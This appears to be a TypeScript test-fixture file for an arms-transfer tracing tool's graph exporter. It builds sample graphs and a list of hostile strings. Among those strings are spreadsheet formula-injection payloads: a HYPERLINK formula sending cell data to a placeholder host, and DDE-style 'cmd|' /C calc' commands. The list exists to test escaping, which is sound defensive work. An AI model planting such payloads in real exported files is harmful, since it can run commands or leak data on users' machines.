import type {
  About,
  ExportedClaim,
  ExportedEdge,
  ExportedGraph,
  ExportedLocator,
  ExportedNode,
  ExportedSource,
} from '../../../src/export/graph.ts';

const ABOUT: About = {
  title: 'Chains to a cell',
  question: '{"to":{"ids":["cell"]}}',
  revision: 7,
  contentHash: 'abc123',
  program: 'armstrace 0.0.0',
  attributions: [
    { name: 'seeds', licence: 'Apache-2.0', licenceUrls: [], attribution: 'the sources that each claim names' },
  ],
  complete: true,
  lacks: [],
  leftOut: { nodes: 0, edges: 0 },
};

const NODE: ExportedNode = { id: 'n', label: 'n', kind: 'ARMED_GROUP', country: null, otherNames: [] };

const EDGE: ExportedEdge = {
  id: 'e',
  kind: 'SUPPLIED',
  source: 'a',
  target: 'b',
  earliest: null,
  latest: null,
  when: null,
  materiel: [],
  credibility: 3,
  reliability: 'C',
  contested: false,
  sources: [],
  disputedBy: [],
  claims: [],
  chains: [],
  hops: [],
  brokers: [],
  carriers: [],
  financiers: [],
  items: [],
  quantity: null,
  unit: null,
  qualifier: null,
  diversionPoint: null,
  diversionMechanism: null,
  diversionScheme: null,
};

const SOURCE: ExportedSource = {
  id: 's',
  title: null,
  publisher: null,
  authors: [],
  medium: null,
  published: null,
  publishedFrom: null,
  when: null,
  language: null,
  reliability: 'C',
  url: null,
  urlUnknown: null,
  archivedUrl: null,
  cited: true,
  derivedFrom: [],
  roots: [],
};

const CLAIM: ExportedClaim = {
  id: 'c',
  stance: 'ASSERTS',
  credibility: 3,
  gradedBy: null,
  wording: null,
  statement: 'So it was.',
  quote: null,
  lang: null,
  locator: null,
  statedOn: null,
  source: 's',
};

const NOWHERE: ExportedLocator = {
  page: null,
  paragraph: null,
  heading: null,
  exact: null,
  prefix: null,
  suffix: null,
};

type DrawnClaim = Partial<Omit<ExportedClaim, 'locator'>> & { readonly locator?: Partial<ExportedLocator> };

/** A claim as a test writes it down; what it does not say is plain. */
export function claimed({ locator, ...claim }: DrawnClaim): ExportedClaim {
  return { ...CLAIM, ...claim, locator: locator ? { ...NOWHERE, ...locator } : null };
}

export interface Drawn {
  readonly about?: Partial<About>;
  readonly sources?: readonly (Partial<ExportedSource> & Pick<ExportedSource, 'id'>)[];
  readonly nodes?: readonly (Partial<ExportedNode> & Pick<ExportedNode, 'id'>)[];
  readonly edges?: readonly (Partial<ExportedEdge> & Pick<ExportedEdge, 'id' | 'source' | 'target'>)[];
}

/** A graph as a test writes it down; what it does not say is plain. */
export function exported({ about, sources = [], nodes = [], edges = [] }: Drawn): ExportedGraph {
  return {
    about: { ...ABOUT, ...about },
    sources: sources.map((source) => ({ ...SOURCE, roots: [source.id], ...source })),
    edgeCount: edges.length,
    nodes: () => nodes.map((node) => ({ ...NODE, label: node.id, ...node })),
    edges: async function* () {
      for (const [at, edge] of edges.entries()) yield { ...EDGE, hops: placesOf(edges.slice(0, at), edge), ...edge };
    },
  };
}

/** The place of an edge in each of its chains: that in which it is written down. */
function placesOf(before: NonNullable<Drawn['edges']>, { chains = [] }: Partial<ExportedEdge>): number[] {
  return chains.map((chain) => before.filter((edge) => edge.chains?.includes(chain)).length + 1);
}

/** All that can go wrong in a text, by what it is. */
export const NASTY: Readonly<Record<string, string>> = {
  'quotes and brackets': `"it's" <b>&amp;</b> & ]]> <!-- --> <?php ?>`,
  'control characters': 'a\u0000b\u0007c\u001bd\u007fe\u0085f\u2028g\ufffeh\uffff',
  'line breaks': 'one\r\ntwo\nthree\rfour\tfive',
  'right-to-left marks': '\u202eabc\u202c \u200fداعش\u200e \u2066x\u2069',
  'lone surrogates': 'a\ud800b\udc00c',
  'beyond the basic plane': '\u{1f52b} \u{10ffff}',
  'a formula': '=HYPERLINK("http://x.example/?"&A1,"click")',
  'more formulas': '+1+1',
  'even more': "-2+3+cmd|' /C calc'!A0",
  'and one more': '@SUM(1+1)*cmd',
  'a formula behind a semicolon': 'a; b;=1+1',
  'formulas where cells are split': 'a; =1+1;=2+2\t=3+3\t "@SUM(4)\r\n=5+5\n+6;\'=7',
  separators: 'a,b;c\td|e#f%g',
  nothing: '',
};

/** A graph in which every text is one of those. */
export function nastyGraph(): ExportedGraph {
  const texts = Object.values(NASTY);
  return exported({
    about: { title: texts.join(' '), question: JSON.stringify({ texts }), attributions: texts.map(attributed) },
    sources: texts.map((text, at) => ({
      id: `s${at}`,
      title: text,
      publisher: text,
      authors: [text],
      when: text,
      language: text,
      url: text,
      urlUnknown: text,
      archivedUrl: text,
    })),
    nodes: texts.map((text, at) => ({ id: `n${at}`, label: text, otherNames: [text] })),
    edges: texts.map((text, at) => ({
      id: `e${at}`,
      source: `n${at}`,
      target: `n${(at + 1) % texts.length}`,
      materiel: [{ id: `m${at}`, name: text }],
      items: [{ id: `i${at}`, name: text, marks: text, serial: text }],
      brokers: [{ id: `b${at}`, name: text }],
      claims: [
        claimed({
          id: `c${at}`,
          gradedBy: text,
          wording: text,
          statement: text,
          quote: text,
          lang: text,
          locator: { page: 1, heading: text, exact: text, prefix: text, suffix: text },
          source: `s${at}`,
        }),
      ],
      chains: [1],
      sources: [`s${at}`],
      unit: text,
      qualifier: text,
    })),
  });
}

function attributed(text: string) {
  return { name: text, licence: text, licenceUrls: [text], attribution: text };
}

/**
 * Two parallel flows, a WITHIN hop, open bounds, several sources and what one derives from, evidence of all kinds: what a
 * format must not lose.
 */
export function richGraph(): ExportedGraph {
  return exported({
    sources: [
      {
        id: 'report',
        title: 'A report',
        publisher: 'A field team',
        authors: ['Field investigators'],
        medium: 'report',
        url: 'https://example.org/report',
        archivedUrl: 'https://archive.example/report',
        published: '2017-12-14',
        publishedFrom: '2017-12-14',
        when: '2017-12-14',
        language: 'en',
        reliability: 'B',
      },
      {
        id: 'press',
        title: 'مقال',
        publisher: 'An agency',
        medium: 'news article',
        published: '2018-01-31',
        publishedFrom: '2018-01-01',
        when: '2018-01',
        language: 'ar',
        urlUnknown: 'the page is gone',
        derivedFrom: ['study'],
        roots: ['study'],
      },
      { id: 'denial', publisher: 'A ministry', when: '2018~', medium: 'statement', reliability: 'E' },
      { id: 'study', title: 'Arms of the north', publisher: 'A university', when: '2017', cited: false },
    ],
    nodes: [
      { id: 'state', label: 'A state', kind: 'STATE', country: 'SY', otherNames: ['دولة'] },
      { id: 'army', label: 'Its army', kind: 'STATE_FORCE', country: 'SY' },
      { id: 'brigade', label: 'A brigade', kind: 'STATE_FORCE' },
      { id: 'cell', label: 'A cell', kind: 'CELL' },
    ],
    edges: [
      {
        id: 'f1',
        source: 'state',
        target: 'army',
        earliest: '2010-01-01',
        latest: '2010-12-31',
        credibility: 2,
        reliability: 'B',
        sources: ['report'],
        chains: [1, 2],
        materiel: [
          { id: 'rifle', name: 'Rifles' },
          { id: 'rocket', name: 'Rockets' },
        ],
        items: [{ id: 'lot-1', name: 'A crate of rifles', marks: 'AK 1~4', serial: '17' }],
        brokers: [{ id: 'trader', name: 'A trader' }],
        quantity: 271,
        unit: 'pieces',
        qualifier: 'at least',
        claims: [
          claimed({
            id: 'c-report',
            credibility: 2,
            gradedBy: 'rule 1',
            wording: 'documented',
            statement: 'The rifles were delivered; the rockets too.',
            locator: { page: 12, paragraph: 3, heading: 'Deliveries', exact: 'rifles and rockets', prefix: 'of' },
            statedOn: '2017-12-01',
            source: 'report',
          }),
        ],
      },
      {
        id: 'f2',
        source: 'state',
        target: 'army',
        latest: '2011-06-30',
        credibility: 3,
        reliability: 'C',
        sources: ['press', 'report'],
        chains: [2],
      },
      {
        id: 'within:army:brigade',
        kind: 'WITHIN',
        source: 'army',
        target: 'brigade',
        credibility: 3,
        reliability: 'F',
        chains: [1, 2],
      },
      {
        id: 'f3',
        kind: 'DIVERTED',
        source: 'brigade',
        target: 'cell',
        earliest: '2014-06-01',
        contested: true,
        credibility: 4,
        reliability: 'D',
        sources: ['press'],
        disputedBy: ['denial'],
        claims: [
          claimed({
            id: 'c-press',
            credibility: 4,
            wording: 'reported',
            statement: 'The brigade lost them to the cell.',
            quote: 'استولت الخلية على البنادق',
            lang: 'ar',
            source: 'press',
          }),
          claimed({
            id: 'c-denial',
            stance: 'DISPUTES',
            credibility: 5,
            wording: 'alleged',
            statement: 'Nothing was lost.',
            source: 'denial',
          }),
        ],
        chains: [1, 2],
        diversionPoint: 'POST_DELIVERY',
        diversionMechanism: 'BATTLEFIELD_CAPTURE',
        diversionScheme: '1',
      },
    ],
  });
}

/** All that a writer writes, as one text. */
export async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}
